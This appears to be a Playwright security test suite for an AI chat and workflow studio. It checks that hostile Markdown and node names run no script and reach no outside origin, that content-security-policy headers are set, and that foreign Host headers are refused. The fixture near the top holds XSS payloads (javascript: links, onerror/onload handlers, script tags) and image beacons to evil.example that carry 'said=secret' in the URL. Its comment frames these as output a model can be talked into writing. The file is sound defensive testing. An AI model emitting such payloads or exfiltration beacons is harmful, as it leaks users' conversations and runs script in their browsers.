import { request as httpRequest } from "node:http";
import type { Page } from "@playwright/test";
import { studioApi, type WorkflowDraft } from "./fixtures/studio-api";
import { expect, test } from "./fixtures/test";

const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="window.owned=1"/>').toString("base64");

/** What a model can be talked into writing: scripts, and beacons that carry words of the conversation in their address. */
const hostileMarkdown = [
  "[script](javascript:window.owned=1) [mixed](JaVaScRiPt:window.owned=1) [basic](vbscript:window.owned=1)",
  "[data](data:text/html,<script>window.owned=1</script>) <javascript:window.owned=1>",
  "![beacon](https://evil.example/image.png?said=secret) ![protocol](//evil.example/relative.png) ![named][there]",
  `![svg](data:image/svg+xml;base64,${svg})`,
  '<img src="https://evil.example/raw.png" onerror="window.owned=1"><script>window.owned=1</script>',
  '<style>@import url("https://evil.example/style.css");</style><svg onload="window.owned=1"></svg>',
  '<iframe src="https://evil.example/frame"></iframe><a href="https://evil.example/" ping="https://evil.example/ping">ping</a>',
  '```mermaid\ngraph TD; A-->B; click A href "javascript:window.owned=1"\n```',
  "$$\\href{javascript:window.owned=1}{x} \\includegraphics{https://evil.example/tex.png}$$",
  "<https://evil.example/auto?said=secret> and [a page](https://evil.example/page?said=secret)",
  "[there]: https://evil.example/reference.png",
  "The end of it.",
].join("\n\n");
const hostileName = '<img src="https://evil.example/name.png" onerror="window.owned=1">';

const sayer: WorkflowDraft = {
  inputs: [{ name: "query", type: "string", required: true }],
  nodes: [
    { id: "start", type: "start", title: hostileName, config: {} },
    { id: "say", type: "answer", title: hostileName, config: { template: hostileMarkdown } },
  ],
  edges: [{ source: "start", target: "say" }],
  settings: { opening: hostileMarkdown, suggestions: [hostileName] },
};

/** Notes every request that a page makes beyond our own server; none is let through. */
async function watchOutside(page: Page, origin: string): Promise<string[]> {
  const outside: string[] = [];
  await page.context().route(
    (url) => url.protocol.startsWith("http") && url.origin !== origin,
    (route) => {
      outside.push(route.request().url());
      return route.abort();
    },
  );
  page.on("dialog", (dialog) => {
    outside.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  return outside;
}

test("F-56 F-57 hostile Markdown and names ask nothing of other origins and run no script, on any page", async ({
  page,
  baseURL,
}) => {
  const origin = String(baseURL);
  const api = studioApi(origin);
  const outside = await watchOutside(page, origin);
  const isOwned = () => page.evaluate(() => "owned" in window);
  const workflowId = await api.create(hostileName, sayer);
  const appCode = await api.publish(workflowId);

  await test.step("the chat, while it streams and drawn by the server", async () => {
    await page.goto(`/chat?app=${appCode}`);
    await page.getByRole("textbox", { name: "Message" }).fill(hostileMarkdown);
    await page.getByRole("button", { name: "Send", exact: true }).click();
    const answer = page.getByRole("article", { name: "Assistant" });
    await expect(answer).toContainText("The end of it.");
    await expect(answer).toHaveAttribute("aria-busy", "false");
    await page.reload();
    await expect(answer).toContainText("The end of it.");
    await expect(answer).toContainText("image from evil.example is not loaded");
    await expect(answer.locator("img, iframe, svg[onload], [ping]")).toHaveCount(0);
    const addresses = await answer
      .getByRole("link")
      .evaluateAll((links) => links.map((link) => link.getAttribute("href")));
    expect(addresses.filter((address) => !/^(https:\/\/evil\.example\/|\/runs\/)/.test(address ?? ""))).toEqual([]);
    await answer.getByRole("link", { name: "a page" }).click();
    await expect(page.getByRole("dialog", { name: /evil\.example/ })).toContainText(
      "https://evil.example/page?said=secret",
    );
    await page.getByRole("button", { name: "Cancel" }).click();
    expect(await isOwned()).toBe(false);
  });

  await test.step("the editor with its run log", async () => {
    const { runId } = await api.trpc.runs.start.mutate({ workflowId, inputs: { query: hostileMarkdown } });
    await page.goto(`/workflows/${workflowId}?run=${runId}`);
    await page.getByRole("tab", { name: "Run log" }).click();
    await expect(page.getByRole("log", { name: "Answer" })).toContainText("The end of it.");
    expect(await isOwned()).toBe(false);

    await page.goto(`/runs/${runId}`);
    await expect(page.getByRole("region", { name: "Span detail" })).toContainText("The end of it.");
    expect(await isOwned()).toBe(false);
  });

  for (const path of ["/workflows", "/runs", "/chat"]) {
    await test.step(path, async () => {
      await page.goto(path);
      await expect(page.getByRole("main")).toContainText(/evil\.example|javascript:/);
      expect(await isOwned()).toBe(false);
    });
  }
  expect(outside).toEqual([]);
});

test.describe("a page that holds something foreign after all", () => {
  test.use({ expectedErrors: [/^logged: .*evil\.example.*Content Security Policy/] });

  test("the content policy stops what a page would load, send or frame elsewhere", async ({ page, baseURL }) => {
    const outside = await watchOutside(page, String(baseURL));
    const response = await page.goto("/workflows");
    expect(response?.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
    expect(response?.headers()["x-content-type-options"]).toBe("nosniff");
    expect(response?.headers()["x-powered-by"]).toBeUndefined();
    const stopped = await page.evaluate(async () => {
      const directives: string[] = [];
      document.addEventListener("securitypolicyviolation", (violation) =>
        directives.push(violation.effectiveDirective),
      );
      const image = new Image();
      const isImageStopped = new Promise((resolve) => image.addEventListener("error", () => resolve(true)));
      image.src = "https://evil.example/pixel.png";
      const isFetchStopped = fetch("https://evil.example/data").then(
        () => false,
        () => true,
      );
      return {
        isImageStopped: await isImageStopped,
        isFetchStopped: await isFetchStopped,
        directives: directives.sort(),
      };
    });
    expect(stopped).toEqual({ isImageStopped: true, isFetchStopped: true, directives: ["connect-src", "img-src"] });
    expect(outside).toEqual([]);
  });
});

test.describe("requests that no browser of ours makes", () => {
  /** The status of a request whose Host header is not the address it was sent to. */
  function statusFor(url: string, host: string, method = "GET"): Promise<number | undefined> {
    return new Promise((resolve, reject) => {
      const request = httpRequest(
        url,
        { method, headers: { host, "content-type": "application/json" } },
        (response) => {
          response.resume();
          response.once("end", () => resolve(response.statusCode));
        },
      );
      request.once("error", reject);
      request.end();
    });
  }

  test("F-71 another host name is refused on pages and API alike, our own are not", async ({ baseURL }) => {
    const origin = String(baseURL);
    const { port } = new URL(origin);
    const paths = ["/", "/workflows", "/chat", "/runs", "/api/trpc/system.info", "/api/v1/agent/runs/none/events"];
    for (const host of [
      "evil.example",
      `evil.example:${port}`,
      `localhost.evil.example:${port}`,
      `127.0.0.1.evil.example`,
    ]) {
      for (const path of paths) expect(await statusFor(origin + path, host), `${host} ${path}`).toBe(403);
    }
    for (const host of [`localhost:${port}`, `127.0.0.1:${port}`]) {
      expect(await statusFor(`${origin}/workflows`, host), host).toBe(200);
      expect(await statusFor(`${origin}/api/trpc/system.info`, host), host).toBe(200);
    }
  });

  test("F-73 the executor's own address does not exist while it is embedded", async ({ baseURL }) => {
    const url = `${String(baseURL)}/api/inngest`;
    for (const method of ["GET", "POST", "PUT"]) {
      expect(await statusFor(url, new URL(url).host, method), method).toBe(404);
    }
  });
});
